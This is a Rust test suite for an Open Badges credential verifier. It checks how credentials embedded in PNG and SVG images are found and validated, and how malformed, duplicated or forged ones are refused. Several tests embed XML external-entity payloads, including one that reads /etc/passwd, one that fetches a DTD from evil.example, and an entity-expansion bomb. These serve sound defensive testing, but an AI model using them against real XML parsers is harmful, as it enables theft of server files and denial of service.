//! Pitfall 7: Images are scanned, never decoded or rendered, and carry exactly one credential.

use ob3_core::{bake_png, bake_svg};

use super::{badge, verdict};
use accolade_tests::badges::{PNG, SVG, crc32};

fn chunk(kind: &[u8; 4], data: &[u8]) -> Vec<u8> {
    let body = [kind.as_slice(), data].concat();
    let length = u32::try_from(data.len()).unwrap().to_be_bytes();
    [length.as_slice(), &body, &crc32(&body).to_be_bytes()].concat()
}

fn itxt(keyword: &str, flag: u8, text: &[u8]) -> Vec<u8> {
    chunk(b"iTXt", &[keyword.as_bytes(), &[0, flag, 0, 0, 0], text].concat())
}

/// The picture with these chunks before its end, or behind its header.
fn png(early: &[u8], late: &[u8]) -> Vec<u8> {
    let (header, rest) = PNG.split_at(33);
    let (data, end) = rest.split_at(rest.len() - 12);
    [header, early, data, late, end].concat()
}

fn credential() -> Vec<u8> {
    itxt("openbadgecredential", 0, badge().to_string().as_bytes())
}

#[test]
fn a_credential_is_found_before_and_behind_the_pixels() {
    assert_eq!(verdict(png(&credential(), &[])), ("verified", "verified"));
    assert_eq!(verdict(png(&[], &credential())), ("verified", "verified"));
}

#[test]
fn two_credentials_are_one_too_many() {
    let forged = itxt("openbadgecredential", 0, b"{}");
    for (early, late) in [(credential(), credential()), (credential(), forged.clone()), (forged, credential())] {
        assert_eq!(verdict(png(&early, &late)), ("rejected", "image_several_credentials"));
    }
    assert_eq!(verdict(png(&[credential(), credential()].concat(), &[])), ("rejected", "image_several_credentials"));
}

#[test]
fn a_compressed_credential_is_inflated_to_the_size_of_a_credential_and_no_further() {
    let compressed = |text: &[u8]| png(&[], &itxt("openbadgecredential", 1, &ob3_core::testing::zlib(text)));
    let badge = badge().to_string();
    assert_eq!(verdict(compressed(badge.as_bytes())), ("verified", "verified"));
    assert_eq!(
        verdict(compressed(badge.replace("First aid", "Last aid").as_bytes())),
        ("rejected", "signature_invalid")
    );
    assert_eq!(verdict(compressed(&vec![b' '; (2 << 20) + 1])), ("rejected", "input_too_large"));
    let plain = itxt("openbadgecredential", 1, badge.as_bytes());
    assert_eq!(verdict(png(&[], &plain)), ("rejected", "png_malformed"));
}

#[test]
fn a_length_beyond_the_file_is_refused() {
    for length in [u32::MAX, 0x7fff_ffff, 0x8000_0000, 1 << 20] {
        let mut file = png(&[], &credential());
        let at = file.windows(4).position(|window| window == b"iTXt").unwrap() - 4;
        file[at..at + 4].copy_from_slice(&length.to_be_bytes());
        assert_eq!(verdict(file), ("rejected", "png_malformed"), "{length}");
    }
}

#[test]
fn a_wrong_checksum_is_refused() {
    let mut file = png(&[], &credential());
    let at = file.windows(5).position(|window| window == b"First").unwrap();
    file[at] = b'f';
    assert_eq!(verdict(file), ("rejected", "png_malformed"));
}

#[test]
fn text_that_is_not_utf_8_is_refused() {
    assert_eq!(
        verdict(png(&[], &itxt("openbadgecredential", 0, b"{\"name\":\"\xff\"}"))),
        ("rejected", "text_not_utf8")
    );
}

#[test]
fn a_keyword_that_only_begins_so_is_another_keyword() {
    for keyword in
        ["openbadgecredential2", "OpenBadgeCredential", &"openbadgecredential".repeat(5), " openbadgecredential"]
    {
        let other = itxt(keyword, 0, badge().to_string().as_bytes());
        assert_eq!(verdict(png(&[], &other)).0, "rejected", "{keyword}");
        assert_eq!(verdict(png(&credential(), &other)), ("verified", "verified"), "{keyword}");
    }
}

#[test]
fn the_keyword_in_another_kind_of_chunk_is_refused() {
    for kind in [b"tEXt", b"zTXt"] {
        let data = [b"openbadgecredential\0".as_slice(), badge().to_string().as_bytes()].concat();
        assert_eq!(verdict(png(&[], &chunk(kind, &data))).0, "rejected", "{kind:?}");
    }
}

#[test]
fn pixels_are_not_decoded() {
    // A header that asks for 2^31 by 2^31 pixels, and image data that are no zlib stream.
    let header = chunk(b"IHDR", &[0x7f, 0xff, 0xff, 0xff, 0x7f, 0xff, 0xff, 0xff, 16, 6, 0, 0, 0]);
    let data = chunk(b"IDAT", b"not zlib at all");
    let file = [&PNG[..8], &header, &data, &credential(), &PNG[PNG.len() - 12..]].concat();
    assert_eq!(verdict(file), ("verified", "verified"));
}

#[test]
fn an_open_badges_2_image_is_told_as_one() {
    assert_eq!(verdict(png(&[], &itxt("openbadges", 0, b"https://badges.example/1"))), ("rejected", "open_badges_2"));
}

fn svg(more: &str, body: &str) -> String {
    format!(
        r#"{more}<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0">{body}</svg>"#
    )
}

fn element() -> String {
    format!("<openbadges:credential><![CDATA[{}]]></openbadges:credential>", badge())
}

#[test]
fn entities_are_not_declared_and_nothing_is_fetched() {
    for doctype in [
        r#"<!DOCTYPE svg [<!ENTITY a "b">]>"#,
        r#"<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>"#,
        r#"<!DOCTYPE svg [<!ENTITY % a SYSTEM "https://evil.example/a.dtd"> %a;]>"#,
        r#"<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>"#,
    ] {
        assert_eq!(verdict(svg(doctype, &element())), ("rejected", "svg_malformed"), "{doctype}");
    }
    let plain = r#"<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">"#;
    assert_eq!(verdict(svg(plain, &element())), ("verified", "verified"));
}

#[test]
fn an_entity_in_the_credential_is_refused() {
    let forged = element().replace("<![CDATA[", "&evil;<![CDATA[");
    assert_eq!(verdict(svg("", &forged)).0, "rejected");
}

#[test]
fn several_elements_are_too_many_and_one_is_found_anywhere() {
    assert_eq!(verdict(svg("", &format!("{}{}", element(), element()))), ("rejected", "image_several_credentials"));
    assert_eq!(verdict(svg("", &format!("<g><path d='M0 0'/></g>{}", element()))), ("verified", "verified"));
}

#[test]
fn a_credential_in_the_attribute_and_another_in_the_text_are_too_many() {
    // Either alone is one; which of the two were read would depend on the reader.
    let open = r#"<openbadges:credential xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0""#;
    let token = accolade_tests::badges::token(accolade_tests::badges::Curve::Ed25519);
    let alone = svg("", &format!("{open} verify='{token}'> </openbadges:credential>"));
    assert_eq!(verdict(alone), ("verified", "verified"));
    let both = svg("", &format!("{open} verify='{token}'>{}</openbadges:credential>", super::badge()));
    assert_eq!(verdict(both), ("rejected", "image_several_credentials"));
}

#[test]
fn a_script_is_passed_over_and_what_it_holds_is_no_credential() {
    let script = r#"<script><![CDATA[alert("</openbadges:credential>")]]></script>"#;
    assert_eq!(verdict(svg("", &format!("{script}{}", element()))), ("verified", "verified"));
    let hidden = format!("<!-- {} -->", element().replace("--", ""));
    assert_eq!(verdict(svg("", &hidden)), ("rejected", "image_no_credential"));
    let within = format!("<style><![CDATA[{}]]></style>", element().replace("]]>", ""));
    assert_eq!(verdict(svg("", &within)), ("rejected", "image_no_credential"));
}

#[test]
fn json_over_several_sections_is_read_as_a_whole() {
    let split = element().replacen("First aid", "First]]><![CDATA[ aid", 1);
    assert_eq!(verdict(svg("", &split)), ("verified", "verified"));
}

#[test]
fn another_prefix_and_another_namespace_are_told_apart() {
    let renamed = svg("", &element()).replace("openbadges:", "ob:").replace("xmlns:openbadges", "xmlns:ob");
    assert_eq!(verdict(renamed), ("verified", "verified"));
    let other = svg("", &element()).replace("https://purl.imsglobal.org/ob/v3p0", "https://evil.example/");
    assert_eq!(verdict(other), ("rejected", "image_no_credential"));
}

#[test]
fn an_altered_badge_is_rejected_in_either_image() {
    let forged = badge().to_string().replace("First aid", "Surgery");
    assert_eq!(verdict(bake_png(PNG, &forged).unwrap()), ("rejected", "signature_invalid"));
    assert_eq!(verdict(bake_svg(SVG, &forged).unwrap()), ("rejected", "signature_invalid"));
}
